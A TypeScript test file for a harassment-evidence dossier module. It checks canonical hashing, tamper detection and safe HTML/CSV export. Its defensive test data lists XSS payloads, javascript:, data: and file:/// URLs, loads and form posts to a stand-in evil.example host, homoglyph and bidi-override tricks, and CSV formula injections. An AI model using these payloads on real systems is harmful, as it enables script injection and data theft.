import { Parser } from 'htmlparser2';
import Papa from 'papaparse';
import crypto from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { VigieError } from '../../../main/core/errors';
import { canonicalHash, canonicalJson, sha256Hex } from '../../../main/core/team/canonical-json';
import {
  buildDossier,
  dossierFileName,
  freezeMention,
  hashRecord,
  renderDossierCsv,
  renderDossierHtml,
  renderDossierJson,
  verifyDossier,
  type DossierInput,
  type EvidenceItem,
  type FreezableMention,
} from '../../../main/core/team/evidence-dossier';

const T = Date.UTC(2025, 2, 10, 21, 15, 30);
const FROZEN = { at: T + 3_600_000, by: 'Claire' };

const mention = (over: Partial<FreezableMention> = {}): FreezableMention => ({
  id: 'x:1001',
  platform: 'x',
  externalId: '1001',
  url: 'https://x.com/troll/status/1001',
  authorHandle: '@troll',
  authorName: 'Troll',
  text: 'Tu vas le regretter',
  lang: 'fr',
  replyTo: null,
  createdAt: T,
  fetchedAt: T + 60_000,
  toxicity: 0.91,
  ...over,
});

const input = (items: EvidenceItem[], over: Partial<DossierInput> = {}): DossierInput => ({
  caseId: 'case-1',
  subject: 'Hélène Durand',
  title: 'Harcèlement après le 20 h',
  preparedBy: 'Claire',
  generatedAt: T + 7_200_000,
  timeZone: 'Europe/Paris',
  items,
  ...over,
});

describe('canonical JSON', () => {
  it('sorts keys by UTF-16 code units, drops whitespace, keeps arrays in order', () => {
    expect(
      canonicalJson({ b: 1, a: [3, 1, { d: null, c: true }], A: 'x', é: 0, '\u{1F600}': 1, '\uFFFF': 2 }),
    ).toBe('{"A":"x","a":[3,1,{"c":true,"d":null}],"b":1,"é":0,"\u{1F600}":1,"\uFFFF":2}');
  });

  it('escapes strings like JSON.stringify and never normalizes Unicode', () => {
    expect(canonicalJson('a"b\\c\n\u0001\u202E\uD800')).toBe('"a\\"b\\\\c\\n\\u0001\u202E\\ud800"');
    expect(canonicalHash({ t: 'é' })).not.toBe(canonicalHash({ t: 'e\u0301' }));
  });

  it('serializes numbers as ECMAScript does and refuses what JSON cannot say', () => {
    expect(canonicalJson([1e21, 0.1, -0, 1.5e-7, 100])).toBe('[1e+21,0.1,0,1.5e-7,100]');
    for (const bad of [NaN, Infinity, undefined, () => 1, 10n, new Date(0), { a: undefined }]) {
      expect(() => canonicalJson(bad)).toThrow(TypeError);
    }
  });

  it('hashes the UTF-8 bytes of the canonical text', () => {
    expect(canonicalHash({ b: 'é', a: 1 })).toBe(
      crypto.createHash('sha256').update(Buffer.from('{"a":1,"b":"é"}', 'utf8')).digest('hex'),
    );
    expect(sha256Hex('')).toBe('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
  });
});

describe('evidence records and hashes', () => {
  it('freezes a mention with UTC times and who froze it, and hashes its canonical JSON', () => {
    const item = freezeMention(mention(), FROZEN, { target: 'self' });
    expect(item.record).toEqual({
      v: 1,
      mentionId: 'x:1001',
      platform: 'x',
      externalId: '1001',
      url: 'https://x.com/troll/status/1001',
      authorHandle: '@troll',
      authorName: 'Troll',
      text: 'Tu vas le regretter',
      lang: 'fr',
      replyTo: null,
      createdAt: '2025-03-10T21:15:30.000Z',
      capturedAt: '2025-03-10T21:16:30.000Z',
      frozenAt: '2025-03-10T22:15:30.000Z',
      frozenBy: 'Claire',
    });
    expect(item.sha256).toBe(
      sha256Hex(
        '{"authorHandle":"@troll","authorName":"Troll","capturedAt":"2025-03-10T21:16:30.000Z",' +
          '"createdAt":"2025-03-10T21:15:30.000Z","externalId":"1001","frozenAt":"2025-03-10T22:15:30.000Z",' +
          '"frozenBy":"Claire","lang":"fr","mentionId":"x:1001","platform":"x","replyTo":null,' +
          '"text":"Tu vas le regretter","url":"https://x.com/troll/status/1001","v":1}',
      ),
    );
    expect(item.annotations).toEqual({ toxicity: 0.91, target: 'self', note: null });
  });

  it('is stable: same mention, same hash, whatever the key order', () => {
    const a = freezeMention(mention(), FROZEN);
    const b = freezeMention(mention(), FROZEN);
    expect(a.sha256).toBe(b.sha256);
    const shuffled = Object.fromEntries(Object.entries(a.record).reverse()) as typeof a.record;
    expect(hashRecord(shuffled)).toBe(a.sha256);
  });

  it('changes when any field of the record changes, not when an annotation does', () => {
    const ref = freezeMention(mention(), FROZEN).sha256;
    const variants: Partial<FreezableMention>[] = [
      { id: 'x:1002' },
      { platform: 'mastodon' },
      { externalId: '1002' },
      { url: 'https://x.com/troll/status/1002' },
      { url: null },
      { authorHandle: '@tro1l' },
      { authorName: 'Trol' },
      { text: 'Tu vas le regretter ' },
      { text: 'Tu vas le regretter'.normalize('NFD') + '\u200B' },
      { lang: 'en' },
      { replyTo: 'x:1000' },
      { createdAt: T + 1 },
      { fetchedAt: T + 60_001 },
    ];
    const hashes = variants.map((v) => freezeMention(mention(v), FROZEN).sha256);
    for (const h of hashes) expect(h).not.toBe(ref);
    expect(new Set(hashes).size).toBe(variants.length);
    expect(freezeMention(mention(), { ...FROZEN, by: 'Sam' }).sha256).not.toBe(ref);
    expect(freezeMention(mention(), { ...FROZEN, at: FROZEN.at + 1 }).sha256).not.toBe(ref);
    expect(freezeMention(mention({ toxicity: 0.1 }), FROZEN, { note: 'x' }).sha256).toBe(ref);
    // Capture time unknown (a pin copied from the crisis room): hashed as null.
    const unknown = freezeMention(mention({ fetchedAt: null }), FROZEN);
    expect(unknown.record.capturedAt).toBeNull();
    expect(unknown.sha256).not.toBe(ref);
  });
});

describe('evidence dossier', () => {
  const a = freezeMention(mention({ id: 'x:1', createdAt: T + 2000 }), FROZEN);
  const b = freezeMention(mention({ id: 'x:2', createdAt: T }), FROZEN);
  const c = freezeMention(mention({ id: 'bluesky:3', platform: 'bluesky', createdAt: T + 1000 }), FROZEN);

  it('sorts by time, hashes the list, and does not depend on the input order or the language', () => {
    const d1 = buildDossier(input([a, b, c]));
    const d2 = buildDossier(input([c, a, b, a]));
    expect(d1.items.map((i) => i.record.mentionId)).toEqual(['x:2', 'bluesky:3', 'x:1']);
    expect(d2.dossierSha256).toBe(d1.dossierSha256);
    expect(d2.items).toHaveLength(3);
    expect(d1.dossierSha256).toBe(
      canonicalHash({
        format: 'vigie-evidence-dossier',
        version: 1,
        caseId: 'case-1',
        subject: 'Hélène Durand',
        items: [b.sha256, c.sha256, a.sha256],
      }),
    );
    expect(
      buildDossier(input([a, b, c], { title: 'autre', generatedAt: T, timeZone: 'UTC' })).dossierSha256,
    ).toBe(d1.dossierSha256);
    expect(renderDossierHtml(d1, 'fr')).toContain(d1.dossierSha256);
    expect(renderDossierHtml(d1, 'en')).toContain(d1.dossierSha256);
  });

  it('changes its hash when an item, the subject or the case changes', () => {
    const ref = buildDossier(input([a, b])).dossierSha256;
    const edited = freezeMention(mention({ id: 'x:1', createdAt: T + 2000, text: 'autre' }), FROZEN);
    expect(buildDossier(input([edited, b])).dossierSha256).not.toBe(ref);
    expect(buildDossier(input([a])).dossierSha256).not.toBe(ref);
    expect(buildDossier(input([a, b], { subject: 'H. Durand' })).dossierSha256).not.toBe(ref);
    expect(buildDossier(input([a, b], { caseId: null })).dossierSha256).not.toBe(ref);
  });

  it('refuses an item changed after it was frozen', () => {
    const tampered = { ...a, record: { ...a.record, text: 'texte adouci' } };
    expect(() => buildDossier(input([tampered, b]))).toThrow(VigieError);
    try {
      buildDossier(input([tampered]));
    } catch (err) {
      expect((err as VigieError).code).toBe('evidence_tampered');
    }
    expect(() => buildDossier(input([a], { timeZone: 'Mars/Olympus' }))).toThrow(/Unknown time zone/);
  });

  it('exports JSON that verifies, and detects a change in it', () => {
    const d = buildDossier(input([a, b, c]));
    const json = renderDossierJson(d);
    expect(verifyDossier(JSON.parse(json))).toEqual({ ok: true, dossierOk: true, badItems: [], error: null });
    const edited = JSON.parse(json) as typeof d;
    edited.items[1]!.record.authorHandle = '@someone_else';
    expect(verifyDossier(edited)).toMatchObject({ ok: false, dossierOk: true, badItems: [1] });
    const removed = JSON.parse(json) as typeof d;
    removed.items.pop();
    expect(verifyDossier(removed)).toMatchObject({ ok: false, dossierOk: false, badItems: [] });
    expect(verifyDossier({ nope: true }).ok).toBe(false);
  });

  it('names its files plainly', () => {
    const d = buildDossier(input([a]));
    expect(dossierFileName(d, 'html', 'fr')).toMatch(/^preuves-Helene-Durand-2025-03-10-[0-9a-f]{8}\.html$/);
    expect(dossierFileName({ ...d, subject: '\u202E<>:"/\\|?*' }, 'csv', 'en')).toMatch(/^evidence-dossier-/);
  });
});

// ---------------------------------------------------------------------------------------------
// HTML safety

const XSS_TEXTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">clic</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '"><iframe src=javascript:alert(1)>',
  "'><body onload=alert(1)>",
  '</div></dd></dl></section><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<a href="javascript:alert(1)">gagnez un iPhone</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/p.png)}</style>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<form action="https://evil.example"><input name=p></form>',
  '<!-- <script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{constructor.constructor("alert(1)")()}}',
  'abc\u202Egnp.exe',
  'zero\u200Bwidth\u2066isolate\u2069 and \u0000 nul \u0007 bell',
  'famille 👨‍👩‍👧 intacte',
];
const XSS_AUTHORS = [
  '<script>alert(1)</script>',
  '"onmouseover="alert(1)',
  '\u0430dmin_officiel', // Cyrillic а: a homoglyph of "admin_officiel"
  '\u202Elanoitan',
  '<img src=x onerror=alert(1)>',
];
const XSS_URLS = [
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(document.cookie)',
  'java\tscript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  'https://example.com/"><script>alert(1)</script>',
  "https://example.com/' onmouseover='alert(1)",
  'https://ex\u0430mple.com/login',
  'http://ok.example/path?q=<b>&r=1',
];
const BIG = 'Harcèlement <b>répété</b> & menaces. '.repeat(1400); // ~50 kB

const ALLOWED_TAGS = new Set([
  'html',
  'head',
  'meta',
  'title',
  'style',
  'body',
  'header',
  'main',
  'h1',
  'h2',
  'dl',
  'dt',
  'dd',
  'p',
  'section',
  'div',
  'span',
  'bdi',
  'code',
  'a',
]);
const ALLOWED_ATTRS = new Set([
  'lang',
  'charset',
  'http-equiv',
  'content',
  'name',
  'class',
  'id',
  'title',
  'dir',
  'href',
  'rel',
  'target',
]);

interface Parsed {
  tags: { name: string; attribs: Record<string, string> }[];
  text: string;
  style: string;
}

function parseHtml(html: string): Parsed {
  const out: Parsed = { tags: [], text: '', style: '' };
  let inStyle = false;
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        out.tags.push({ name, attribs });
        inStyle = name === 'style';
      },
      ontext(text) {
        if (inStyle) out.style += text;
        else out.text += text;
      },
      onclosetag() {
        inStyle = false;
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return out;
}

/** What the text shows once the ⟦U+XXXX⟧ marks stand for the characters they replace. */
function unmark(text: string): string {
  return text.replace(/⟦U\+([0-9A-F]{4,6})⟧/g, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)));
}

describe('evidence dossier HTML is inert', () => {
  const items: EvidenceItem[] = [];
  let n = 0;
  for (const text of XSS_TEXTS)
    items.push(freezeMention(mention({ id: `x:t${n}`, createdAt: T + n++, text }), FROZEN));
  for (const authorHandle of XSS_AUTHORS)
    items.push(
      freezeMention(
        mention({ id: `x:a${n}`, createdAt: T + n++, authorHandle, authorName: authorHandle }),
        FROZEN,
      ),
    );
  for (const url of XSS_URLS)
    items.push(freezeMention(mention({ id: `x:u${n}`, createdAt: T + n++, url }), FROZEN));
  items.push(
    freezeMention(mention({ id: 'x:big', createdAt: T + n, text: BIG }), FROZEN, {
      note: '<script>n</script>',
    }),
  );
  const dossier = buildDossier(
    input(items, {
      subject: '<script>alert("subject")</script>',
      title: '<img src=x onerror=alert(1)>',
      preparedBy: '"><svg onload=alert(1)>',
    }),
  );

  for (const lang of ['fr', 'en'] as const) {
    const html = renderDossierHtml(dossier, lang);
    const parsed = parseHtml(html);

    it(`${lang}: has no script, no event handler, no element from the data`, () => {
      expect(html).not.toMatch(/<script/i);
      expect(html).not.toMatch(
        /<(img|svg|math|iframe|object|embed|form|input|link|base|frame|audio|video|source)\b/i,
      );
      for (const t of parsed.tags) {
        expect(ALLOWED_TAGS.has(t.name), `tag <${t.name}>`).toBe(true);
        for (const attr of Object.keys(t.attribs)) {
          expect(attr.startsWith('on'), `attribute ${attr} on <${t.name}>`).toBe(false);
          expect(ALLOWED_ATTRS.has(attr), `attribute ${attr} on <${t.name}>`).toBe(true);
        }
      }
      // Every "<" in the document opens one of our tags: none comes from the data.
      const opened = [...html.matchAll(/<(\/?)([^\s>/]+)/g)].map((m) => m[2]!.toLowerCase());
      for (const name of opened) expect(name === '!doctype' || ALLOWED_TAGS.has(name), name).toBe(true);
    });

    it(`${lang}: loads nothing from outside and forbids it by CSP`, () => {
      for (const t of parsed.tags) expect(t.attribs.src).toBeUndefined();
      expect(parsed.style).not.toMatch(/url\(|@import/i);
      const csp =
        parsed.tags.find((t) => t.attribs['http-equiv'] === 'Content-Security-Policy')?.attribs.content ?? '';
      expect(csp).toContain("default-src 'none'");
      expect(csp).not.toContain('unsafe-inline');
      const styleHash = crypto.createHash('sha256').update(parsed.style, 'utf8').digest('base64');
      expect(csp).toContain(`style-src 'sha256-${styleHash}'`);
      expect(parsed.tags.filter((t) => t.name === 'style')).toHaveLength(1);
      expect(
        parsed.tags.find((t) => t.name === 'meta' && t.attribs.name === 'referrer')?.attribs.content,
      ).toBe('no-referrer');
    });

    it(`${lang}: makes only http(s) links clickable, with rel="noopener noreferrer"`, () => {
      const links = parsed.tags.filter((t) => t.name === 'a');
      expect(links.length).toBeGreaterThan(0);
      for (const a of links) {
        expect(a.attribs.href).toMatch(/^https?:\/\//);
        expect(new URL(a.attribs.href!).protocol).toMatch(/^https?:$/);
        expect(a.attribs.rel).toBe('noopener noreferrer');
      }
      const hrefs = links.map((a) => a.attribs.href);
      expect(hrefs).toContain('https://example.com/%22%3E%3Cscript%3Ealert(1)%3C/script%3E');
      expect(hrefs).toContain('https://xn--exmple-4nf.com/login');
      expect(hrefs.some((h) => /javascript|data:|vbscript|file:/i.test(h ?? ''))).toBe(false);
      // Dangerous links are shown in full, as text.
      for (const url of XSS_URLS) expect(unmark(parsed.text)).toContain(url);
      expect(parsed.text).toContain(
        lang === 'fr' ? 'non cliquable : schéma « javascript: »' : 'not clickable: “javascript:” link',
      );
      expect(parsed.text).toContain(
        lang === 'fr' ? 'domaine réel : xn--exmple-4nf.com' : 'actual domain: xn--exmple-4nf.com',
      );
    });

    it(`${lang}: shows every payload as text, in full, with hidden characters marked`, () => {
      const text = unmark(parsed.text);
      for (const t of XSS_TEXTS) expect(text).toContain(t);
      for (const author of XSS_AUTHORS) expect(text).toContain(author);
      expect(text).toContain(BIG);
      expect(parsed.text).toContain('abc⟦U+202E⟧gnp.exe');
      expect(parsed.text).toContain('zero⟦U+200B⟧width⟦U+2066⟧isolate⟦U+2069⟧');
      expect(parsed.text).toContain('⟦U+0000⟧ nul ⟦U+0007⟧ bell');
      expect(parsed.text).toContain('famille 👨‍👩‍👧 intacte'); // ZWJ kept for emoji
      expect(parsed.text).not.toContain('\u202E');
      // The homoglyph handle is flagged with its code point.
      expect(parsed.text).toContain(
        lang === 'fr'
          ? 'Caractères non ASCII (sosies possibles) : а U+0430'
          : 'Non-ASCII characters (possible lookalikes): а U+0430',
      );
      expect(html).toContain(
        `<title>${lang === 'fr' ? 'Dossier de preuves' : 'Evidence dossier'} — &lt;script&gt;`,
      );
    });
  }

  it('keeps the local time and the UTC time of each message', () => {
    const one = buildDossier(input([freezeMention(mention(), FROZEN)]));
    const html = renderDossierHtml(one, 'fr');
    expect(html).toContain('2025-03-10T21:15:30.000Z');
    expect(html).toContain('2025-03-10 22:15:30 UTC+1');
    expect(renderDossierHtml(buildDossier(input([])), 'en')).toContain('No message in this dossier.');
  });
});

// ---------------------------------------------------------------------------------------------
// CSV

describe('evidence dossier CSV', () => {
  const tricky = 'Il a dit "dégage";\nligne 2, avec virgule\r\nligne 3';
  const items = [
    freezeMention(mention({ id: 'x:1', text: tricky }), FROZEN, { target: 'self', note: 'menace' }),
    freezeMention(
      mention({ id: 'x:2', createdAt: T + 1, text: '=HYPERLINK("https://evil.example","clic")' }),
      FROZEN,
    ),
    freezeMention(
      mention({ id: 'x:3', createdAt: T + 2, text: '=1+1\nsur deux lignes', authorHandle: '@x' }),
      FROZEN,
    ),
    freezeMention(
      mention({ id: 'x:4', createdAt: T + 3, text: '-2+3', authorName: '+33 6 00 00 00 00' }),
      FROZEN,
    ),
  ];
  const d = buildDossier(input(items));
  const parse = (csv: string, delimiter: string) =>
    Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true }).data;

  it('starts with a UTF-8 BOM and uses ";" by default in French, "," in English', () => {
    const fr = renderDossierCsv(d, 'fr');
    const en = renderDossierCsv(d, 'en');
    expect(fr.charCodeAt(0)).toBe(0xfeff);
    expect(en.charCodeAt(0)).toBe(0xfeff);
    expect(fr.split('\r\n')[0]).toMatch(/^\uFEFF"N°";"Date \(UTC\)";"Date \(heure locale\)";/);
    expect(en.split('\r\n')[0]).toMatch(/^\uFEFF"No\.","Date \(UTC\)","Date \(local time\)",/);
    expect(renderDossierCsv(d, 'en', { delimiter: ';' }).split('\r\n')[0]).toContain('"No.";"Date (UTC)"');
  });

  it('reads back exactly: quotes, delimiters and newlines inside the text survive', () => {
    for (const [lang, delimiter] of [
      ['fr', ';'],
      ['en', ','],
    ] as const) {
      const rows = parse(renderDossierCsv(d, lang), delimiter);
      expect(rows).toHaveLength(5);
      const header = rows[0]!;
      const col = (name: string) => header.indexOf(name);
      const textCol = col(lang === 'fr' ? 'Texte figé' : 'Frozen text');
      expect(rows[1]![textCol]).toBe(tricky);
      expect(rows[1]![col(lang === 'fr' ? 'Empreinte (SHA-256)' : 'Fingerprint (SHA-256)')]).toBe(
        items[0]!.sha256,
      );
      expect(rows[1]![col(lang === 'fr' ? 'Date (heure locale)' : 'Date (local time)')]).toBe(
        '2025-03-10 22:15:30 UTC+1',
      );
      expect(rows[1]![col(lang === 'fr' ? 'Cible' : 'Target')]).toBe(
        lang === 'fr' ? 'la personne elle-même' : 'the person themself',
      );
      expect(rows[1]![col(lang === 'fr' ? 'Toxicité estimée (0-1)' : 'Estimated toxicity (0-1)')]).toBe(
        lang === 'fr' ? '0,91' : '0.91',
      );
      for (const row of rows) expect(row).toHaveLength(header.length);
    }
  });

  it('defuses cells a spreadsheet would run as formulas, even on several lines', () => {
    const rows = parse(renderDossierCsv(d, 'en'), ',');
    const header = rows[0]!;
    const text = header.indexOf('Frozen text');
    expect(rows[2]![text]).toBe('\'=HYPERLINK("https://evil.example","clic")');
    expect(rows[3]![text]).toBe("'=1+1\nsur deux lignes");
    expect(rows[4]![text]).toBe("'-2+3");
    expect(rows[4]![header.indexOf('Display name')]).toBe("'+33 6 00 00 00 00");
  });
});
